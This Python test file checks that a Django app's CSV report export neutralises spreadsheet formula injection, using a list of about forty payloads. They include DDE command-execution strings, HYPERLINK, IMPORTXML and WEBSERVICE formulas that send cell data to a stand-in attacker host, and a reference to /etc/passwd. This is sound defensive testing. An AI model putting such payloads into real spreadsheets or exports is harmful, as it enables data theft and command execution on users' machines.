"""What leaves for spreadsheets: text stays text, whatever somebody typed."""

import csv
import io

import pytest
from django.utils import translation

from cases.reports import spreadsheet
from sla.plain_text import clean_text

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"a")',
    "='file:///etc/passwd'#$passwd.A1",
    "=2+5+cmd|' /C calc'!'A1'",
    "==1",
    "=\n1",
    "+1+1",
    "+1+cmd|' /C calc'!A0",
    "++1",
    "+33 1 70 36 45 70",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "@mention",
    "@",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    " \t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=1","=2',
    "=1;=2",
    '"=1',
    "';=1",
]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


def test_a_number_is_a_number() -> None:
    with translation.override("fr"):
        row = [-30, spreadsheet.Figure("-0,50"), "-30", 12]
        assert read(spreadsheet.write([row]), ";") == [["-30", "-0,50", "'-30", "12"]]


def read(data: bytes, parted_by: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=parted_by))


class TestWrite:
    def test_is_tried_with_enough(self):
        assert len(set(PAYLOADS)) >= 40

    @pytest.mark.parametrize("language", ["en", "fr"])
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_leaves_no_cell_that_a_spreadsheet_would_run(self, payload, language):
        with translation.override(language):
            data = spreadsheet.write([["Product", payload], [payload, 3]])
        rows = read(data, ";" if language == "fr" else ",")
        assert [len(row) for row in rows] == [2, 2]
        for cell in (cell for row in rows for cell in row):
            assert not cell.strip(" \u00a0\u200b\u2060\ufeff\0").startswith(TRIGGERS)
        assert rows[0][1].removeprefix("'") == clean_text(payload).removeprefix("'")

    @pytest.mark.parametrize("harmless", ["Daptiv", "3.5", "a=b", "Jean-Luc", "a@example.com", "", "é“", "1,5"])
    def test_leaves_what_is_harmless(self, harmless):
        assert read(spreadsheet.write([[harmless]])) == [[harmless]]

    def test_quotes_every_cell_and_says_its_encoding(self):
        assert spreadsheet.write([["é", 1], ['a"b', None]]) == '\ufeff"é","1"\r\n"a""b","None"\r\n'.encode()

    def test_parts_cells_as_the_language_does(self):
        with translation.override("fr"):
            assert spreadsheet.write([["a", "1,5"]]).endswith(b'"a";"1,5"\r\n')


class TestDownload:
    def test_is_kept_as_a_file_and_nowhere_else(self):
        answer = spreadsheet.download([["a"]], filename="report.csv")
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == 'attachment; filename="report.csv"'
        assert answer["Cache-Control"] == "no-store"
